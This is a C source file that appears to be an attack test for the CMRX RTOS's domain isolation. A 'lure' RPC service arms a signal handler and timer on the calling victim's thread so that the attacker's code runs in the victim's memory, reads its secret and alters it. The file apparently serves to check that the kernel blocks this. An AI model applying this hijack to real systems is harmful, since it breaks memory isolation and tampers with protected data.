/* Attack: a callee takes over its caller's thread.
 *
 * The victim calls our `lure` service. During the call the running thread
 * is the victim's; if the kernel lets the method set that thread's signal
 * handler and periodic timer, our handler later runs on the victim's
 * thread, at home, in the victim's memory, where it reads and changes the
 * victim's secret. */
#include "attack.h"

static volatile int armed_handler = 1, armed_timer = 1;

/* Runs in whichever domain the thread is in when the signal comes. */
static void hijacked(uint32_t signals)
{
    (void)signals;
    unsigned hits = secret_hits(victim_secret, SECRET_WORDS);
    if (hits > 0) {
        ATTACK_SUCCEEDED("the callee's handler read %u words of its caller's secret", hits);
        victim_secret[2] ^= 1u;
    }
    cmrx_setitimer(0);
}

static int log_call(struct lure *self, uint32_t value)
{
    (void)self;
    (void)value;
    if (armed_handler == 1) {
        armed_handler = cmrx_signal_handler(hijacked);
        armed_timer = cmrx_setitimer(1000);
        cmrx_printf("attack_rpchijack: in the caller's call: signal handler %d, timer %d\n",
                    armed_handler, armed_timer);
    }
    return 0;
}

CMRX_VTABLE(struct lure_vtable, lure_vt) = {log_call};
CMRX_EXPORT struct lure lure = {&lure_vt};

static int attack(void *arg)
{
    (void)arg;
    while (armed_handler == 1) {
        cmrx_usleep(1000);
    }
    cmrx_usleep(20000); /* time for the timer to fire in the victim */
    attack_done(2);
    return 0;
}
CMRX_THREAD(attack, NULL);
